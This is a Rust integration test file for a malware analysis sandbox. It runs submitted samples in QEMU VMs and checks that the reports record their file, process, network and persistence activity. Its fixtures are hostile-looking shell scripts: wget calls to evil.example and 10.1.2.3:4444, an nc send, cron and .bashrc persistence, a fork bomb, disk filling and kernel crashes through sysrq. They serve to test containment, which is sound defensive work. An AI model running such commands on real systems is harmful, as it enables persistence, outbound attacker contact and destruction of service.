@@ -1,0 +1,317 @@
+//! Samples in real VMs: real QEMU without KVM, the guest of `make guest`, the binary as it is used.
+//!
+//! The guest is built if it is not there (`guest/build`, which fetches Debian packages the first time).
+
+use crate::control::gate::{Site, Up, wait_for};
+use serde_json::{Value, json};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::{Mutex, MutexGuard, PoisonError};
+use std::time::{Duration, Instant};
+
+/// One of these at a time: each keeps a processor busy by itself.
+static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());
+
+/// A lab with VMs, and its data folder.
+struct Lab {
+    site: Site,
+    _alone: MutexGuard<'static, ()>,
+}
+
+impl Lab {
+    fn new(vms: &str) -> Lab {
+        Lab::with(vms, "")
+    }
+
+    fn with(vms: &str, more: &str) -> Lab {
+        let alone = ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner);
+        let site = Site::new(&format!(
+            "[lab]\nenabled = true\nslots = 1\nattempts = 2\nguest = {:?}\nvms = {vms}\nvm_accelerator = \"tcg\"\nvm_watch = \"4s\"\n{more}",
+            guest()
+        ));
+        // The data folder must be one before something is put into it.
+        fs::create_dir_all(site.data()).unwrap();
+        fs::write(site.data().join("format"), "weir data folder, format 1\n").unwrap();
+        // A guest boots once for all of these tests: a snapshot fits every lab with the same guest.
+        let (known, vms) = (snapshots(), site.data().join("lab/vms"));
+        fs::create_dir_all(&vms).unwrap();
+        for entry in fs::read_dir(&known).into_iter().flatten().flatten() {
+            fs::copy(entry.path(), vms.join(entry.file_name())).unwrap();
+        }
+        Lab { site, _alone: alone }
+    }
+
+    /// Hands in a sample; its number.
+    fn submit(&self, name: &str, content: &[u8]) -> String {
+        let file = self.site.home().join(name);
+        fs::write(&file, content).unwrap();
+        self.site.json(&["lab", "submit", file.to_str().unwrap()])[0]["sample"].to_string()
+    }
+
+    /// Waits until a sample has ended; its page.
+    #[track_caller]
+    fn ended(&self, sample: &str) -> Value {
+        let begun = Instant::now();
+        loop {
+            let page = self.site.json(&["lab", "report", sample]);
+            if page["state"] != "queued" {
+                self.keep_snapshots();
+                return page;
+            }
+            assert!(begun.elapsed() < Duration::from_secs(120), "sample {sample} does not end: {page:#}");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+
+    /// What a sample did.
+    #[track_caller]
+    fn run(&self, name: &str, content: &[u8]) -> Value {
+        let page = self.ended(&self.submit(name, content));
+        assert_eq!(page["state"], "done", "{page:#}");
+        full(&page)
+    }
+
+    fn keep_snapshots(&self) {
+        fs::create_dir_all(snapshots()).unwrap();
+        for entry in fs::read_dir(self.site.data().join("lab/vms")).into_iter().flatten().flatten() {
+            let (name, to) = (entry.file_name(), snapshots().join(entry.file_name()));
+            if name.to_string_lossy().starts_with("golden-") && !to.exists() {
+                fs::copy(entry.path(), to).unwrap();
+            }
+        }
+    }
+
+    /// The QEMUs that work for this lab.
+    fn qemus(&self) -> Vec<u32> {
+        let folder = self.site.data().join("lab/vms");
+        let processes = fs::read_dir("/proc").unwrap().flatten();
+        let pids = processes.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
+        let is_ours = |pid: &u32| {
+            let line = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            let works = fs::read_link(format!("/proc/{pid}/cwd")).is_ok_and(|at| at.starts_with(&folder));
+            String::from_utf8_lossy(&line).contains("qemu") && works
+        };
+        pids.filter(is_ours).collect()
+    }
+}
+
+fn full(page: &Value) -> Value {
+    let results = page["results"].as_array().unwrap();
+    let ours = results.iter().find(|result| result["plugin"] == "run-linux" && result["outcome"] == "done");
+    ours.unwrap_or_else(|| panic!("no report of run-linux in {page:#}"))["report"]["full"].clone()
+}
+
+/// The guest, built once.
+fn guest() -> PathBuf {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().unwrap();
+    let guest = root.join("target/guest");
+    if !guest.join("initrd").exists() {
+        let built = Command::new(root.join("guest/build")).status().expect("bash");
+        assert!(built.success(), "the guest could not be built: run `make guest`");
+    }
+    guest
+}
+
+fn snapshots() -> PathBuf {
+    std::env::temp_dir().join(format!("weir-snapshots-{}", std::process::id()))
+}
+
+fn list<'a>(full: &'a Value, what: &str) -> &'a [Value] {
+    full[what].as_array().map_or(&[], Vec::as_slice)
+}
+
+fn has(full: &Value, what: &str, fields: &Value) -> bool {
+    let fits = |entry: &Value| fields.as_object().unwrap().iter().all(|(key, value)| entry[key] == *value);
+    list(full, what).iter().any(fits)
+}
+
+#[track_caller]
+fn assert_has(full: &Value, what: &str, fields: &Value) {
+    assert!(has(full, what, fields), "{fields} is not among {what} of {full:#}");
+}
+
+const SCRIPT: &str =
+    "#!/bin/sh\necho hello > /tmp/dropped.txt\nwget -q -O /dev/null http://evil.example/x\nsleep 0.1 &\nwait\n";
+
+#[test]
+fn a_script_is_run_in_a_vm_and_the_report_says_what_it_did() {
+    let lab = Lab::new("[\"vm1 tags=linux\"]");
+    let _up = lab.site.up();
+    let page = lab.ended(&lab.submit("script.sh", SCRIPT.as_bytes()));
+    assert_eq!(page["state"], "done", "{page:#}");
+    let full = full(&page);
+    assert_eq!(
+        (&full["ended"], &full["accelerator"], &full["machine"]),
+        (&json!("exit 0"), &json!("tcg"), &json!("vm1"))
+    );
+    // Just that: one file, one name, one connection, one request; three processes; nothing that stays.
+    let sha256 = "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03";
+    assert_eq!(
+        full["files"],
+        json!([{ "path": "/tmp/dropped.txt", "what": "written", "bytes": 6, "sha256": sha256 }]),
+        "{full:#}"
+    );
+    let network: Vec<&str> = list(&full, "network").iter().filter_map(|entry| entry["what"].as_str()).collect();
+    assert_eq!(network, ["dns", "connect", "http"], "{full:#}");
+    assert_has(&full, "network", &json!({ "what": "dns", "to": "evil.example" }));
+    assert_has(&full, "network", &json!({ "what": "http", "detail": "GET /x", "host": "evil.example" }));
+    let (first, wget) = (&list(&full, "processes")[0], &list(&full, "processes")[1]);
+    assert_eq!((&first["path"], &first["user"]), (&json!("/home/user/script.sh"), &json!(1000)));
+    assert_eq!((&wget["parent"], &wget["ended"]), (&first["pid"], &json!("exit 0")), "{full:#}");
+    assert_eq!(wget["arguments"][0], "wget");
+    assert_eq!((list(&full, "processes").len(), &full["persistence"]), (3, &json!([])), "{full:#}");
+    let result = page["results"].as_array().unwrap().iter().find(|result| result["plugin"] == "run-linux").unwrap();
+    assert_has(&result["report"], "artifacts", &json!({ "dataType": "file", "filename": "dropped.txt" }));
+    assert_has(&result["report"], "artifacts", &json!({ "dataType": "url", "data": "http://evil.example/x" }));
+    // Nothing of it is there for the next one.
+    let next = lab.run("next.sh", b"#!/bin/sh\nls /tmp\nid -u\n");
+    assert_eq!((&next["output"], &next["files"]), (&json!("1000\n"), &json!([])), "{next:#}");
+}
+
+#[test]
+fn static_programs_double_forks_and_sessions_are_followed() {
+    let lab = Lab::new("[\"vm1\"]");
+    let _up = lab.site.up();
+    // As `id`, busybox is a static program that says who runs it.
+    let busybox = fs::read("/bin/busybox").or_else(|_| fs::read("/usr/bin/busybox")).expect("busybox-static is here");
+    let full = lab.run("id", &busybox);
+    assert!(full["output"].as_str().unwrap().starts_with("uid=1000(user)"), "{full:#}");
+    let script = "#!/bin/sh\n( ( sleep 0.3; echo late > /tmp/late ) & )\nsetsid sh -c 'sleep 0.3; echo d > /tmp/daemon' &\n\
+                  echo 'x' >> ~/.bashrc\necho x > /etc/cron.d/evil\nmv /tmp/late /tmp/none; touch /tmp/a; mv /tmp/a /tmp/b; rm /tmp/b\n\
+                  exit 3\n";
+    let full = lab.run("forks.sh", script.as_bytes());
+    assert_eq!(full["ended"], "exit 3");
+    for path in ["/tmp/late", "/tmp/daemon", "/home/user/.bashrc"] {
+        assert_has(&full, "files", &json!({ "path": path, "what": "written" }));
+    }
+    assert_has(&full, "files", &json!({ "path": "/tmp/a", "what": "renamed", "to": "/tmp/b" }));
+    assert_has(&full, "files", &json!({ "path": "/tmp/b", "what": "deleted" }));
+    assert!(!has(&full, "files", &json!({ "path": "/etc/cron.d/evil" })), "it could not write there: {full:#}");
+    assert_has(&full, "persistence", &json!({ "path": "/home/user/.bashrc", "what": "shell" }));
+    assert_has(&full, "persistence", &json!({ "path": "/etc/cron.d/evil", "what": "cron" }));
+}
+
+#[test]
+fn samples_that_attack_their_guest_harm_nobody_else() {
+    let lab = Lab::new("[\"vm1\"]");
+    let _up = lab.site.up();
+    for (name, script, ended) in [
+        ("off.sh", "poweroff -f; reboot -f; halt -f; echo o > /proc/sysrq-trigger; kill -9 1; kill -9 -1; exit 5", ""),
+        ("forks.sh", "while :; do sh \"$0\" & done", ""),
+        ("disk.sh", "for d in /tmp /var/tmp /dev/shm ~; do cat /dev/zero > $d/fill; done; exit 7", ""),
+        ("memory.sh", "x=x; while :; do x=$x$x; done", ""),
+        ("hang.sh", "trap '' TERM; while :; do sleep 1; done", "watched 4 s"),
+        ("stop.sh", "kill -STOP $$; exit 6", "exit 6"),
+        ("serial.sh", "for p in /dev/vport* /dev/hvc* /dev/ttyS0; do cat /dev/urandom > $p; done; exit 8", "exit 8"),
+    ] {
+        let full = lab.run(name, format!("#!/bin/sh\n{script}\n").as_bytes());
+        assert!(ended.is_empty() || full["ended"] == ended, "{name}: {full:#}");
+        let next =
+            lab.run(&format!("after-{name}"), format!("#!/bin/sh\n# after {name}\nls -A /tmp /var/tmp\n").as_bytes());
+        assert_eq!(next["ended"], "exit 0", "after {name}: {next:#}");
+        assert_eq!(next["output"], "/tmp:\n\n/var/tmp:\n", "after {name}");
+    }
+}
+
+#[test]
+fn a_guest_that_is_brought_down_counts_as_an_attempt_and_comes_back() {
+    let lab = Lab::new("[\"vm1 user=root\"]");
+    let _up = lab.site.up();
+    for (name, script) in [("off.sh", "poweroff -f; sleep 60"), ("crash.sh", "echo c > /proc/sysrq-trigger; sleep 60")]
+    {
+        let page = lab.ended(&lab.submit(name, format!("#!/bin/sh\n{script}\n").as_bytes()));
+        assert_eq!(page["state"], "quarantined", "{page:#}");
+        let results = page["results"].as_array().unwrap();
+        let died = results.iter().filter(|result| result["report"]["errorMessage"] == "the guest died").count();
+        assert_eq!(died, 2, "as many as there may be attempts: {page:#}");
+        let next = lab.run(&format!("after-{name}"), format!("#!/bin/sh\n# after {name}\nid -u\n").as_bytes());
+        assert_eq!(next["output"], "0\n");
+    }
+    // The agent's port is open already, and nobody else gets it.
+    let full = lab.run("serial.sh", b"#!/bin/sh\ncat /dev/urandom > /dev/vport0p1 || exit 9\n");
+    assert_eq!(full["ended"], "exit 9", "{full:#}");
+}
+
+#[test]
+fn kills_of_qemu_and_of_the_lab_lose_nothing() {
+    let lab = Lab::with("[\"vm1\", \"vm2 revert=process\"]", "threshold = \"60s\"\n");
+    let up = lab.site.up();
+    lab.run("first.sh", b"#!/bin/sh\ntrue\n");
+    let samples: Vec<String> =
+        (0..4).map(|n| lab.submit(&format!("{n}.sh"), format!("#!/bin/sh\nsleep 1; echo {n}\n").as_bytes())).collect();
+    std::thread::sleep(Duration::from_millis(700));
+    let victims = lab.qemus();
+    assert!(!victims.is_empty());
+    for pid in victims {
+        // By number: these are ours.
+        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+    }
+    for (n, sample) in samples.iter().enumerate() {
+        let page = lab.ended(sample);
+        assert_eq!((&page["state"], &full(&page)["output"]), (&json!("done"), &json!(format!("{n}\n"))));
+    }
+    let sample = lab.submit("last.sh", b"#!/bin/sh\nsleep 1; echo last\n");
+    std::thread::sleep(Duration::from_millis(500));
+    kill_with_its_vms(&lab, up);
+    let _up = lab.site.up();
+    let page = lab.ended(&sample);
+    assert_eq!((&page["state"], &full(&page)["output"]), (&json!("done"), &json!("last\n")));
+}
+
+/// QEMU goes with whoever started it, also where that had no time to say so.
+fn kill_with_its_vms(lab: &Lab, up: Up) {
+    up.kill();
+    wait_for("QEMU to be gone", || lab.qemus().is_empty().then_some(()));
+}
+
+#[test]
+fn nothing_leaves_the_guest() {
+    let lab = Lab::new("[\"vm1\"]");
+    let space = format!("weirvm{}", std::process::id());
+    let ip = |words: &str| {
+        let done = Command::new("ip").args(words.split_whitespace()).output();
+        let done = done.unwrap_or_else(|error| panic!("`ip` is needed ({error}): run `make setup`"));
+        assert!(done.status.success(), "ip {words}: {} (root is needed)", String::from_utf8_lossy(&done.stderr));
+    };
+    ip(&format!("netns add {space}"));
+    // Loopback is all that there is, for the listeners of the lab's own machine.
+    ip(&format!("-n {space} link set lo up"));
+    let inner = lab.site.command(&["up"]);
+    let mut command = Command::new("ip");
+    command.args(["netns", "exec", &space]).arg(inner.get_program()).args(inner.get_args());
+    let up = Site::start(command);
+    lab.run("first.sh", b"#!/bin/sh\ntrue\n");
+    let qemu = lab.qemus()[0];
+    let packets = || {
+        let table = fs::read_to_string(format!("/proc/{qemu}/net/dev")).unwrap();
+        table.lines().skip(2).map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect::<Vec<_>>()
+    };
+    let before = packets();
+    assert!(before.len() == 1 && before[0].starts_with("lo:"), "{before:?}");
+    let script = "#!/bin/sh\nwget -q -O /dev/null http://evil.example/\nwget -q -O /dev/null http://10.1.2.3:4444/x\n\
+                  nslookup name.example 8.8.8.8 > /dev/null\nping -c 1 -W 1 192.0.2.7\necho x | nc -w 1 2001:db8::1 25\nexit 0\n";
+    let full = lab.run("calls.sh", script.as_bytes());
+    for call in [
+        json!({ "what": "dns", "to": "evil.example" }),
+        json!({ "what": "dns", "to": "name.example" }),
+        json!({ "what": "connect", "to": "10.1.2.3:4444" }),
+        json!({ "what": "http", "to": "10.1.2.3:4444", "detail": "GET /x" }),
+    ] {
+        assert_has(&full, "network", &call);
+    }
+    let after = packets();
+    drop(up);
+    ip(&format!("netns del {space}"));
+    assert_eq!(before, after, "no packet was sent or received");
+}
+
+#[test]
+fn a_lab_without_a_guest_says_so() {
+    let site = Site::new("[lab]\nenabled = true\nguest = \"/nowhere\"\nvms = [\"vm1\"]\n");
+    site.weir(&["up"]).refused(&["the VM vm1 has no guest", "make guest"]);
+    let site = Site::new("[lab]\nenabled = true\nvms = [\"vm1 speed=11\"]\n");
+    site.weir(&["up"]).refused(&["lab.vms", "speed=11"]);
+    let site = Site::new("[lab]\nenabled = true\n");
+    assert!(site.up().said.contains("no VM (lab.vms; `make guest`"));
+}
